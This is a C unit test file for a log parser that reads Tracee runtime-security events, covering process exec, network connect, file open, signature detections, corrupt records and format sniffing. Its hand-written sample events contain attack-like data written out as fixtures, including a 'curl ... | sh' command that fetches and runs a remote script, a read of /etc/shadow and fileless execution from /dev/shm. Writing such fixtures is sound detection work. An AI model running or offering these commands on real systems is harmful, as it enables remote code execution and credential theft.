/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-parse-tracee.c - the Tracee parser: sched_process_exec (formats.md
 * §8.4), a connect with remote_addr, a file open, a signature detection,
 * the older flat container fields and args as an object, taxonomy, corrupt
 * records and sniff scores (CloudTrail also has "eventName").
 * No Tracee sample is in the shared data: samples are hand-written here.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <tyto/parser.h>

#include "parse-harness.h"
#include "test.h"

extern const struct ty_parser ty_parser_tracee;

/* formats.md §8.4 example, in a container of a pod */
static const char exec_ev[] =
    "{'timestamp':1710252309417002158,'threadStartTime':1710252309410556021,'processorId':3,"
    "'processId':12,'cgroupId':8812,'threadId':12,'parentProcessId':1,'hostProcessId':2244,"
    "'hostThreadId':2244,'hostParentProcessId':2201,'userId':0,'mountNamespace':4026531841,"
    "'pidNamespace':4026531836,'processName':'bash','executable':{'path':'/usr/bin/bash'},"
    "'hostName':'ip-10-0-12-45','container':{'id':'3f1c2b7a9e0d11','name':'api','image':"
    "'nginx:1.25'},'kubernetes':{'podName':'api-7c9d8f6b5-x2kqp','podNamespace':'payments'},"
    "'eventId':'715','eventName':'sched_process_exec','matchedPolicies':['default'],"
    "'argsNum':3,'returnValue':0,'syscall':'execve','processEntityId':3127475442,'args':["
    "{'name':'cmdpath','type':'const char*','value':'/usr/bin/bash'},{'name':'pathname',"
    "'type':'const char*','value':'/usr/bin/bash'},{'name':'argv','type':'const char**',"
    "'value':['bash','-c','curl -s http://203.0.113.9/x.sh | sh']}]}";

static const char exec_ev_json[] =
    "{'ts':'2024-03-12T14:05:09.417002158Z','ts_prec':9,'time_text':'1710252309417002158',"
    "'category':'process','action':'exec','provider':'tracee','outcome':'success','status_code':"
    "'0','correlation_id':'3127475442','host':'ip-10-0-12-45','k8s_namespace':'payments',"
    "'k8s_pod':'api-7c9d8f6b5-x2kqp','container_id':'3f1c2b7a9e0d11','container_name':'api',"
    "'container_image':'nginx:1.25','pid':2244,'ppid':2201,'process_exe':'/usr/bin/bash',"
    "'process_cmdline':'bash -c curl -s http://203.0.113.9/x.sh | sh','process_uid':0,"
    "'message':'comm=bash','format':'tracee','offset':0,'line':1}\n";

static void test_fields(void)
{
    struct h h;
    const char *head = "{\"timestamp\":1,\"processId\":1,\"eventName\":\"x\"}\n";
    h_open(&h, &ty_parser_tracee, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    CHECK_STR(h.ctx.shape, "JSON lines");

    CHECK_INT(h_feed(&h, exec_ev), TY_OK);
    CHECK_INT(h.n, 1);
    CHECK_STR(h.out.buf, q(&h, exec_ev_json));
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1710252309417002158));
    CHECK_INT(ty_parser_tracee.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);

    /* connect, older flat container fields, namespace pids only */
    CHECK_INT(h_feed(&h, "{'timestamp':1710252310000000000,'processId':77,'parentProcessId':"
                         "70,'userId':1001,'processName':'kworker','hostName':'h1','containerId':"
                         "'c0ffee','containerImage':'yarn:3','podName':'p1','podNamespace':'ns1',"
                         "'eventName':'security_socket_connect','returnValue':-111,'args':["
                         "{'name':'sockfd','type':'int','value':3},{'name':'remote_addr','type':"
                         "'struct sockaddr*','value':{'sa_family':'AF_INET','sin_port':'3333',"
                         "'sin_addr':'198.51.100.23'}}]}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "network");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "connect");
    char ip[64];
    CHECK_STR(ipstr(&h.last, TY_F_DST_IP, ip), "198.51.100.23");
    CHECK_INT(ty_event_int(&h.last, TY_F_DST_PORT, 0), 3333);
    CHECK_INT(ty_event_int(&h.last, TY_F_PID, 0), 77);
    CHECK_INT(ty_event_int(&h.last, TY_F_PPID, 0), 70);
    CHECK_INT(ty_event_int(&h.last, TY_F_PROC_UID, 0), 1001);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_ID), "c0ffee");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_IMAGE), "yarn:3");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_K8S_POD), "p1");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_K8S_NAMESPACE), "ns1");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_CODE), "-111");
    CHECK_INT(ty_parser_tracee.taxonomy(&h.last), TY_SCAT_NETWORK_CONNECTION);

    /* IPv6 connect */
    CHECK_INT(h_feed(&h, "{'timestamp':1,'processId':1,'eventName':'connect','args':[{'name':"
                         "'addr','value':0},{'name':'remote_addr','value':{'sa_family':"
                         "'AF_INET6','sin6_addr':'2001:db8::7','sin6_port':'443'}}]}"),
              TY_OK);
    CHECK_STR(ipstr(&h.last, TY_F_DST_IP, ip), "2001:db8::7");
    CHECK_INT(ty_event_int(&h.last, TY_F_DST_PORT, 0), 443);

    /* file open, args as a name -> value object */
    CHECK_INT(h_feed(&h, "{'timestamp':1710252311000000000,'processId':5,'eventName':"
                         "'security_file_open','args':{'pathname':'/etc/shadow','flags':"
                         "'O_RDONLY'}}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "file");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "security_file_open");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_PATH), "/etc/shadow");
    CHECK_INT(ty_parser_tracee.taxonomy(&h.last), TY_SCAT_NONE);

    /* a signature detection */
    CHECK_INT(h_feed(&h, "{'timestamp':1710252312000000000,'processId':5,'hostName':'h1',"
                         "'eventName':'fileless_execution','metadata':{'Version':'1',"
                         "'Description':'Fileless execution was detected.','Tags':null,"
                         "'Properties':{'Severity':3,'Category':'defense-evasion','Technique':"
                         "'Reflective Code Loading','external_id':'T1620'}},'args':[{'name':"
                         "'triggeredBy','value':{'id':715,'name':'sched_process_exec','args':["
                         "{'name':'pathname','value':'/dev/shm/kworker'},{'name':'argv','value':"
                         "['[kworker/14:1]']}],'returnValue':0}}]}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "alert");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_RULE), "fileless_execution");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_SEVERITY), "3");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "Fileless execution was detected.");
    CHECK(!ty_event_has(&h.last, TY_F_OUTCOME));
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "fileless_execution");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_EXE), "/dev/shm/kworker");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "[kworker/14:1]");
    CHECK_INT(ty_parser_tracee.taxonomy(&h.last), TY_SCAT_NONE);
    h_close(&h);
}

static void test_corrupt(void)
{
    struct h h;
    const char *head = "{}";
    h_open(&h, &ty_parser_tracee, head, strlen(head));
    CHECK_INT(h_feed(&h, "{'timestamp':1,'processId':1}"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "eventName") != NULL);
    CHECK_INT(h_feed(&h, "{'timestamp':'1','eventName':'x'}"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "timestamp") != NULL);
    CHECK_INT(h_feed(&h, "{'timestamp':-5,'eventName':'x'}"), TY_ECORRUPT);
    CHECK_INT(h_feed(&h, "{'timestamp':1.5e18,'eventName':'x'}"), TY_ECORRUPT);
    CHECK_INT(h_feed(&h, "{'eventName':'x'}"), TY_ECORRUPT);
    CHECK_INT(h_feed(&h, "{'timestamp':1,'eventName':'x',}"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "not JSON") != NULL && strstr(h.err.msg, "offset") != NULL);
    CHECK_INT(h_feed(&h, "\"x\""), TY_ECORRUPT);
    /* odd args never crash: argv not an array, remote_addr not an object */
    CHECK_INT(h_feed(&h, "{'timestamp':1,'eventName':'execve','args':[{'name':'argv','value':"
                         "'sh -c id'},{'name':'pathname','value':7}]}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "sh -c id");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_EXE), "7");
    CHECK_INT(h_feed(&h, "{'timestamp':1,'eventName':'connect','args':[{'name':'remote_addr',"
                         "'value':'x'}]}"),
              TY_OK);
    CHECK(!ty_event_has(&h.last, TY_F_DST_IP));
    h_close(&h);
}

static void test_sniff(void)
{
    const struct ty_parser *p = NULL;
    struct ty_err err;
    const char *s = q(NULL, exec_ev);
    CHECK_INT(ty_parser_tracee.sniff(ty_str_cstr(s)), 95);
    CHECK_INT(ty_parser_sniff(ty_str_cstr(s), &p, &err), 0);
    CHECK(p == &ty_parser_tracee);
    CHECK_INT(ty_parser_tracee.sniff(TY_STR_LIT("{\"timestamp\":1,\"processId\":1,"
                                                "\"eventName\":\"x\"}")),
              70);
    /* CloudTrail has eventName (and never processId, but be sure) */
    CHECK_INT(ty_parser_tracee.sniff(TY_STR_LIT(
                  "{\"eventVersion\":\"1.08\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":"
                  "\"GetObject\",\"timestamp\":1,\"processId\":2}")),
              0);
    CHECK_INT(ty_parser_tracee.sniff(TY_STR_LIT("{\"kind\":\"Event\",\"auditID\":\"a\","
                                                "\"verb\":\"get\",\"timestamp\":\"x\"}")),
              0);
}

void test_parse_tracee(void);
void test_parse_tracee(void)
{
    test_fields();
    test_corrupt();
    test_sniff();
    q_release();
}
